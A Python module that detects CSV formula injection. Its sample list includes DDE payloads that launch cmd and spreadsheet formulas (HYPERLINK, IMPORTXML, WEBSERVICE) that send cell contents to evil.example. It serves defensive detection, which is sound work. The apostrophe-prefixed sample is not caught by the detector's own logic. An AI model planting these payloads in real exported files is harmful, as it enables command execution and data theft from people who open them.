"""Texts that a spreadsheet would run, and how to see that a cell is none of them."""

import csv
import io
import unicodedata

FORMULAS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "|calc", "%0A=1", "'=1",
    "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!'A1'", "-cmd|' /C calc'!A0", "@cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"pay\")", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.example/\"&A1)", "+A1;=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1)", "\uff5ccalc", "\u3000=1", "\u2003+1", "\ufeff=1",
    "\u200b@SUM(A1)", "\u3000\uff1dHYPERLINK(1)",
)  # fmt: skip
"""Formulas, commands by dynamic data exchange, those that blanks or an apostrophe stand before, and full-width ones."""
_STARTS = frozenset("=+-@|%\t\r\n")
_BLANKS = " \v\f\x1c\x1d\x1e\x1f\x85\u1680\u2028\u2029\u200b\u200c\u200d\u2060\ufeff"


def is_run(cell: str) -> bool:
    """Whether some spreadsheet may take a cell for a formula or a command. A negative amount is one, and harmless."""
    text = unicodedata.normalize("NFKC", cell).lstrip(_BLANKS)
    return (text[:1] in _STARTS or cell[:1] in _STARTS) and not _is_number(text)


def _is_number(text: str) -> bool:
    return text.lstrip("-").replace(".", "", 1).isdecimal()


def cells_of(text: str) -> list[list[str]]:
    """The cells of a CSV; rows that are not as long as the header fail."""
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert {len(row) for row in rows} <= {len(header)}, "a text became cells of its own"
    return [header, *rows]


def run_in(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run."""
    return [cell for row in cells_of(text) for cell in row if is_run(cell)]
